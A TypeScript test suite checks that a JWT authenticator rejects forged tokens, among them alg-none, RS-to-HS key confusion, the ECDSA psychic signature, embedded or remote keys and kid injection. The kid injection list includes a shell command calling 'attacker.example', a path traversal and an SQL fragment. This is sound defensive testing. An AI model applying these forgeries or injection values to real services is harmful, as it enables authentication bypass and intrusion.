import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { compactVerify } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { JwtAuthenticator as Authenticator } from '../../../../src/mechanisms/authenticators/jwt/authenticator.js';
import type { VerifyResult } from '../../../../src/mechanisms/authenticators/jwt/types.js';
import { createLogger } from '../../../../src/observability/log.js';
import { Metrics } from '../../../../src/observability/metrics.js';
import { issuerConfigFor, startIdp, type Idp, type SignOptions } from '../../../helpers/idp.js';
import {
  b64url,
  duplicateClaimJson,
  psychicSignature,
  publicKeyAsSecrets,
  segments,
  signRaw,
  unsecured,
  withoutSignature,
  withPadding,
  withSpareBits,
  withTruncatedSignature,
} from '../../../helpers/tokens.js';

/**
 * ATTACKS.md "Signature and algorithm", "Key selection", "Claims" and the token parts of "Transport", each minted
 * for real against issuers whose keys are served over HTTP by real IdPs.
 *
 * Issuer `strict` (IdP A) allows RS256 only and demands `typ: at+jwt`, `type: access` and a 1 h max age; it also
 * publishes PS256/ES256/EdDSA keys, so "a key the issuer also publishes" is real. Issuer `other` (IdP B) is a
 * second trusted issuer for substitution attacks and allows ES256 for the psychic-signature case.
 */
let idpA: Idp;
let idpB: Idp;
let auth: Authenticator;
let attackerHits = 0;
let attackerServer: Server;
let attackerUrl: string;

beforeAll(async () => {
  [idpA, idpB] = await Promise.all([startIdp(), startIdp({ keys: ['rsa', 'ec'], audience: 'https://api.test' })]);
  attackerServer = createServer((_req, res) => {
    attackerHits++;
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [] }));
  }).listen(0, '127.0.0.1');
  await once(attackerServer, 'listening');
  attackerUrl = `http://127.0.0.1:${(attackerServer.address() as AddressInfo).port}`;
  const issuers = new Map([
    [
      'strict',
      issuerConfigFor(idpA, {
        name: 'strict',
        algorithms: ['RS256'],
        tokenTypes: ['at+jwt'],
        requireClaims: { type: 'access' },
        maxTokenAgeMs: 3_600_000,
      }),
    ],
    ['other', issuerConfigFor(idpB, { name: 'other', algorithms: ['RS256', 'ES256'] })],
  ]);
  auth = new Authenticator(issuers, { logger: createLogger('silent'), metrics: new Metrics(), tokenCacheBytes: 0 });
  await auth.start();
});

afterAll(async () => {
  auth.close();
  attackerServer.closeAllConnections();
  attackerServer.close();
  await Promise.all([idpA.close(), idpB.close()]);
});

/** A token issuer `strict` accepts, before tampering. */
function accessToken(claims: Record<string, unknown> = {}, options: SignOptions = {}): string {
  return idpA.sign({ type: 'access', ...claims }, { ...options, header: { typ: 'at+jwt', ...options.header } });
}

function accessClaims(claims: Record<string, unknown> = {}): Record<string, unknown> {
  return idpA.claims({ type: 'access', ...claims });
}

function expectDenied(result: VerifyResult, reason: string, status = 401): void {
  expect(result.ok ? 'accepted' : { status: result.status, reason: result.reason }).toEqual({ status, reason });
}

it('the untampered tokens are accepted (the attacks below fail for the stated reason only)', async () => {
  expect((await auth.verify(accessToken(), undefined)).ok).toBe(true);
  expect((await auth.verify(idpB.sign({}, { key: 'ec' }), undefined)).ok).toBe(true);
});

describe('Signature and algorithm', () => {
  it.each(['none', 'None', 'NONE', 'nOnE'])('alg %j with a signature, an empty one, or none at all', async (alg) => {
    const claims = accessClaims();
    expectDenied(await auth.verify(`${unsecured(claims, alg)}c2ln`, undefined), 'alg_none');
    expectDenied(await auth.verify(unsecured(claims, alg), undefined), 'malformed');
    expectDenied(await auth.verify(unsecured(claims, alg, { dropDot: true }), undefined), 'malformed');
  });

  it('a valid token with its signature removed, truncated or altered', async () => {
    const token = accessToken();
    expectDenied(await auth.verify(withoutSignature(token), undefined), 'malformed');
    expectDenied(await auth.verify(withTruncatedSignature(token, 40), undefined), 'bad_signature');
    const [header, payload, signature] = segments(token);
    const flipped = `${header}.${payload}.${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`;
    expectDenied(await auth.verify(flipped, undefined), 'bad_signature');
    const otherPayload = segments(accessToken({ sub: 'admin' }))[1];
    expectDenied(await auth.verify(`${header}.${otherPayload}.${signature}`, undefined), 'bad_signature');
  });

  it.each(['pemWithNewline', 'pemWithoutNewline', 'der', 'jwkJson'] as const)('RS→HS key confusion with the public key as %s', async (form) => {
    const rsa = idpA.key('rsa');
    const secret = publicKeyAsSecrets(rsa.publicKey)[form];
    for (const alg of ['HS256', 'HS384', 'HS512']) {
      const token = signRaw(alg, secret, { alg, typ: 'at+jwt', kid: rsa.kid }, accessClaims());
      expectDenied(await auth.verify(token, undefined), 'alg_not_allowed');
    }
  });

  it.each(['', 'secret', 'changeme', 'your-256-bit-secret'])('HS256 with the common secret %j', async (secret) => {
    const token = signRaw('HS256', secret, { alg: 'HS256', typ: 'at+jwt' }, accessClaims());
    expectDenied(await auth.verify(token, undefined), 'alg_not_allowed');
  });

  it.each(['rsa-pss', 'ec', 'ed'] as const)('an alg outside the allow-list, signed with the published %s key', async (type) => {
    expectDenied(await auth.verify(accessToken({}, { key: type }), undefined), 'alg_not_allowed');
  });

  it('RS256 header over a PS256 signature by the same published key family', async () => {
    const pss = idpA.key('rsa-pss');
    const input = `${b64url(JSON.stringify({ alg: 'RS256', typ: 'at+jwt', kid: pss.kid }))}.${b64url(JSON.stringify(accessClaims()))}`;
    const pssSignature = segments(signRaw('PS256', pss.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: pss.kid }, accessClaims()))[2];
    expectDenied(await auth.verify(`${input}.${pssSignature}`, undefined), 'unknown_kid');
  });

  it('ECDSA psychic signature (r = s = 0, CVE-2022-21449)', async () => {
    const ec = idpB.key('ec');
    const token = `${b64url(JSON.stringify({ alg: 'ES256', kid: ec.kid }))}.${b64url(JSON.stringify(idpB.claims()))}.${psychicSignature(32)}`;
    expectDenied(await auth.verify(token, undefined), 'bad_signature');
    const noKid = `${b64url(JSON.stringify({ alg: 'ES256' }))}.${b64url(JSON.stringify(idpB.claims()))}.${psychicSignature(32)}`;
    expectDenied(await auth.verify(noKid, undefined), 'bad_signature');
  });

  describe('non-canonical encodings of a valid token', () => {
    it('jose alone accepts a spare-bit variant (so the gateway has to refuse it itself)', async () => {
      let token = accessToken();
      let variant = withSpareBits(token, 2);
      while (variant === undefined) {
        token = accessToken();
        variant = withSpareBits(token, 2);
      }
      await expect(compactVerify(variant, idpA.key('rsa').publicKey)).resolves.toBeDefined();
      expectDenied(await auth.verify(variant, undefined), 'non_canonical');
    });

    it.each([0, 1, 2] as const)('= padding on segment %i', async (index) => {
      expectDenied(await auth.verify(withPadding(accessToken(), index), undefined), 'malformed');
    });

    it.each([
      ['a space inside', (t: string) => t.replace('.', '. ')],
      ['a newline inside', (t: string) => t.replace('.', '\n.')],
      ['a trailing space', (t: string) => `${t} `],
      ['a trailing newline', (t: string) => `${t}\n`],
      ['a leading space', (t: string) => ` ${t}`],
    ])('whitespace: %s', async (_name, mutate) => {
      expectDenied(await auth.verify(mutate(accessToken()), undefined), 'malformed');
    });

    it('spare bits in any segment that has them', async () => {
      let tried = 0;
      for (let attempt = 0; attempt < 50 && tried < 3; attempt++) {
        const token = accessToken({ pad: 'x'.repeat(attempt) });
        for (const index of [0, 1, 2] as const) {
          const variant = withSpareBits(token, index);
          if (variant === undefined) continue;
          tried++;
          expectDenied(await auth.verify(variant, undefined), 'non_canonical');
        }
      }
      expect(tried).toBeGreaterThanOrEqual(3);
    });
  });

  it('JWS JSON serialization, JWE, four segments', async () => {
    const [header, payload, signature] = segments(accessToken());
    const general = JSON.stringify({ payload, signatures: [{ protected: header, signature }] });
    const flattened = JSON.stringify({ protected: header, payload, signature });
    const jwe = `${b64url(JSON.stringify({ alg: 'RSA-OAEP-256', enc: 'A256GCM' }))}.${b64url('key')}.${b64url('iv')}.${b64url('ct')}.${b64url('tag')}`;
    for (const token of [general, flattened, jwe, `${header}.${payload}.${signature}.${signature}`]) {
      expectDenied(await auth.verify(token, undefined), 'malformed');
    }
  });

  it('crit with unknown names and b64: false, validly signed', async () => {
    const rsa = idpA.key('rsa');
    const crit = accessToken({}, { header: { crit: ['urn:example:unknown'], 'urn:example:unknown': 1 } });
    expectDenied(await auth.verify(crit, undefined), 'unsupported_header');
    const unencoded = signRaw('RS256', rsa.privateKey, { alg: 'RS256', kid: rsa.kid, typ: 'at+jwt', b64: false, crit: ['b64'] }, accessClaims());
    expectDenied(await auth.verify(unencoded, undefined), 'unsupported_header');
  });
});

describe('Key selection', () => {
  it('embedded jwk with the attacker key, with its own kid and with the real kid', async () => {
    const attacker = idpA.generateKey('rsa');
    for (const kid of [attacker.kid, idpA.key('rsa').kid]) {
      const token = idpA.sign({ type: 'access' }, { key: attacker, kid, header: { typ: 'at+jwt', jwk: attacker.jwk } });
      expectDenied(await auth.verify(token, undefined), 'embedded_key');
    }
  });

  it('jku, x5u and x5c are refused and the URLs are never fetched', async () => {
    const attacker = idpA.generateKey('rsa');
    const spki = attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    const headers = [
      { jku: `${attackerUrl}/jwks.json` },
      { x5u: `${attackerUrl}/cert.pem` },
      { x5c: [spki] },
      { jku: `${attackerUrl}/jwks.json`, x5u: `${attackerUrl}/cert.pem` },
    ];
    for (const header of headers) {
      for (const key of [attacker, idpA.key('rsa')]) {
        const token = idpA.sign({ type: 'access' }, { key, header: { typ: 'at+jwt', ...header } });
        expectDenied(await auth.verify(token, undefined), 'embedded_key');
      }
    }
    expect(attackerHits).toBe(0);
  });

  it.each([
    ['path traversal', '../../../../../../dev/null', 'unknown_kid'],
    ['SQL fragment', "x' UNION SELECT 'secret' --", 'unknown_kid'],
    ['shell metacharacters', '$(curl attacker.example)|`id`;', 'unknown_kid'],
    ['a very long string', 'k'.repeat(4000), 'bad_kid'],
    ['a NUL byte', 'rsa\u0000', 'bad_kid'],
    ['a number', 1, 'bad_kid'],
    ['null', null, 'bad_kid'],
    ['an object', { $ne: '' }, 'bad_kid'],
    ['an array', ['rsa'], 'bad_kid'],
  ])('kid injection: %s', async (_name, kid, reason) => {
    const rsa = idpA.key('rsa');
    const token = signRaw('RS256', rsa.privateKey, { alg: 'RS256', typ: 'at+jwt', kid }, accessClaims());
    expectDenied(await auth.verify(token, undefined), reason);
  });

  it('cross-issuer substitution: iss of one trusted issuer, signed with a key of the other', async () => {
    const bKey = idpB.key('rsa');
    const withBKid = accessToken({}, { key: bKey });
    expectDenied(await auth.verify(withBKid, undefined), 'unknown_kid');
    const withAKid = accessToken({}, { key: bKey, kid: idpA.key('rsa').kid });
    expectDenied(await auth.verify(withAKid, undefined), 'bad_signature');
    const withoutKid = accessToken({}, { key: bKey, kid: null });
    expectDenied(await auth.verify(withoutKid, undefined), 'bad_signature');
    // And the other way round: B's iss with A's key.
    expectDenied(await auth.verify(idpB.sign({}, { key: idpA.key('rsa') }), undefined), 'unknown_kid');
  });

  it('a route that accepts only one issuer refuses a valid token of the other', async () => {
    expectDenied(await auth.verify(idpB.sign(), ['strict']), 'issuer_not_allowed');
    expect((await auth.verify(idpB.sign(), ['other'])).ok).toBe(true);
  });
});

describe('Claims', () => {
  const now = (): number => Math.floor(Date.now() / 1000);

  it.each([
    ['exp missing', { exp: undefined }, 'expired'],
    ['exp a string', { exp: 'tomorrow' }, 'expired'],
    ['exp numeric string', { exp: String(now() + 300) }, 'expired'],
    ['exp in the past beyond skew', { exp: now() - 31 }, 'expired'],
    ['nbf in the future', { nbf: now() + 120 }, 'not_yet_valid'],
    ['iat in the future', { iat: now() + 120 }, 'not_yet_valid'],
    ['exp - iat longer than max_token_age', { iat: now() - 10, exp: now() - 10 + 7200 }, 'too_old'],
    ['issued longer ago than max_token_age', { iat: now() - 7200, exp: now() + 60 }, 'too_old'],
    ['aud missing', { aud: undefined }, 'audience'],
    ["aud another service's", { aud: 'https://billing.test' }, 'audience'],
    ['aud with a trailing slash', { aud: 'https://api.test/' }, 'audience'],
    ['a refresh token', { type: 'refresh' }, 'claims'],
    ['sub a number', { sub: 12345 }, 'claims'],
    ['sub an object', { sub: { id: 'admin' } }, 'claims'],
  ])('%s', async (_name, claims, reason) => {
    expectDenied(await auth.verify(accessToken(claims), undefined), reason);
  });

  it('exp that is not finite (1e400)', async () => {
    const json = JSON.stringify(accessClaims({ exp: 0 })).replace('"exp":0', '"exp":1e400');
    expectDenied(await auth.verify(idpA.signPayload(json, { header: { typ: 'at+jwt' } }), undefined), 'expired');
  });

  it.each([
    ['a trailing slash added', (iss: string) => `${iss}/`],
    ['the trailing slash removed', (iss: string) => iss.replace(/\/$/, '')],
    ['other case', (iss: string) => iss.toUpperCase()],
    ['missing', () => undefined],
    ['an array', (iss: string) => [iss]],
    ['a number', () => 1],
  ])('iss %s', async (_name, mutate) => {
    expectDenied(await auth.verify(accessToken({ iss: mutate(idpA.issuer) }), undefined), 'unknown_issuer');
  });

  it.each([
    ['an ID token', 'JWT'],
    ['a DPoP proof', 'dpop+jwt'],
    ['a logout token', 'logout+jwt'],
    ['no typ at all', undefined],
  ])('wrong typ: %s', async (_name, typ) => {
    expectDenied(await auth.verify(accessToken({}, { header: { typ } }), undefined), 'type');
  });

  it('duplicate claim names, plain and escaped, at the top and nested', async () => {
    const claims = accessClaims();
    const { sub: _sub, ...withoutSub } = claims;
    const payloads = [
      duplicateClaimJson(withoutSub, 'sub', '"user-1"', '"admin"'),
      JSON.stringify(claims).replace('{', '{"s\\u0075b":"admin",'),
      JSON.stringify({ ...claims, realm: { roles: ['user'] } }).replace('"roles":["user"]', '"roles":["user"],"roles":["admin"]'),
    ];
    for (const payload of payloads) {
      expectDenied(await auth.verify(idpA.signPayload(payload, { header: { typ: 'at+jwt' } }), undefined), 'duplicate_claims');
    }
  });

  it('invalid UTF-8 in the payload', async () => {
    const json = JSON.stringify(accessClaims({ name: 'XX' }));
    const bytes = Buffer.from(json);
    const at = bytes.indexOf('XX');
    bytes[at] = 0xc3;
    bytes[at + 1] = 0x28;
    expectDenied(await auth.verify(idpA.signPayload(bytes, { header: { typ: 'at+jwt' } }), undefined), 'invalid_utf8');
  });

  it.each(['[]', '"a string"', '42', 'null', 'true'])('a non-object payload: %s', async (payload) => {
    expectDenied(await auth.verify(idpA.signPayload(payload, { header: { typ: 'at+jwt' } }), undefined), 'malformed');
  });
});

describe('Transport (token parts)', () => {
  it('a token over 8 KiB is refused before decoding', async () => {
    const huge = accessToken({ pad: 'x'.repeat(9000) });
    expectDenied(await auth.verify(huge, undefined), 'too_long');
    expectDenied(await auth.verify(`${'a'.repeat(9000)}.b.c`, undefined), 'too_long');
  });

  it('a payload with very many claims, or deeply nested, is refused without verifying', async () => {
    const many: Record<string, number> = {};
    for (let i = 0; i < 600; i++) many[`c${i}`] = 0;
    expectDenied(await auth.verify(accessToken(many), undefined), 'too_complex');
    const deep = JSON.stringify(accessClaims()).replace('{', `{"deep":${'['.repeat(1000)}${']'.repeat(1000)},`);
    expectDenied(await auth.verify(idpA.signPayload(deep, { header: { typ: 'at+jwt' } }), undefined), 'too_complex');
    const deepObjects = JSON.stringify(accessClaims()).replace('{', `{"deep":${'{"a":'.repeat(100)}1${'}'.repeat(100)},`);
    expectDenied(await auth.verify(idpA.signPayload(deepObjects, { header: { typ: 'at+jwt' } }), undefined), 'too_complex');
  });
});
